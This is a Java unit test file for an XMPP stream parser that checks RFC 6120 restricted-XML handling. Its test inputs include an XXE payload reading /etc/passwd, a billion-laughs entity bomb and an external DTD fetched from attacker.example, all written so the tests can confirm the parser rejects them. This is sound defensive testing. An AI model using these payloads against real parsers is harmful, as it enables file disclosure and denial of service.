package org.parley.xmpp.core.stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.parley.xmpp.core.stream.Streams.HEADER;
import static org.parley.xmpp.core.stream.Streams.failure;
import static org.parley.xmpp.core.stream.Streams.read;
import static org.parley.xmpp.core.stream.Streams.render;
import static org.parley.xmpp.core.stream.Streams.utf8;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** RFC 6120 §11.1: comments, processing instructions, DTDs and entity references are restricted XML. */
class RestrictedXmlTest {
    static final String XML_DECLARATION = "<?xml version='1.0'?>";

    @ParameterizedTest
    @ValueSource(strings = {
        // XXE
        XML_DECLARATION + "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + HEADER
                + "<message><body>&xxe;</body></message>",
        // billion laughs
        XML_DECLARATION + "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;\">"
                + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;\">]>"
                + HEADER + "<message><body>&lol3;</body></message>",
        "<!DOCTYPE stream>" + HEADER,
        XML_DECLARATION + "<!DOCTYPE stream SYSTEM 'http://attacker.example/x.dtd'>" + HEADER,
    })
    void aDocumentTypeDeclarationIsRestrictedXmlWhereverTheInputIsSplit(String document) {
        byte[] data = utf8(document);
        for (int chunk : new int[] {data.length, 13, 1}) {
            assertThat(failure(StreamLimits.defaults(), data, chunk).condition()).as("chunks of %d", chunk)
                    .isEqualTo(StreamErrorCondition.RESTRICTED_XML);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
        HEADER + "<message><body>a &foo; b</body></message>",
        HEADER + "<!-- a comment --><message/>",
        HEADER + "<message><body>a<!-- a comment -->b</body></message>",
        HEADER + "<?php echo 1; ?>",
        HEADER + "<message><?target data?></message>",
        XML_DECLARATION + "<!-- before the header -->" + HEADER,
        XML_DECLARATION + "<?xml-stylesheet href='x'?>" + HEADER,
    })
    void entityReferencesCommentsAndProcessingInstructionsAreRestrictedXml(String document) {
        assertThat(failure(document).condition()).isEqualTo(StreamErrorCondition.RESTRICTED_XML);
    }

    @Test
    void anUndeclaredEntityInAnAttributeIsNotWellFormedBecauseAaltoRefusesItFirst() {
        assertThat(failure(HEADER + "<message to='&foo;'/>").condition())
                .isEqualTo(StreamErrorCondition.NOT_WELL_FORMED);
    }

    @Test
    void thePredefinedEntitiesAndCharacterReferencesAreAllowed() throws Exception {
        assertThat(render(read(HEADER + "<message a='&apos;&#x41;'><body>&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;</body></message>")))
                .containsExactly("open jabber:client {to=example.com, version=1.0}",
                        "<message a='&apos;A'><body>&lt;&gt;&amp;\"'A😀</body></message>");
    }
}
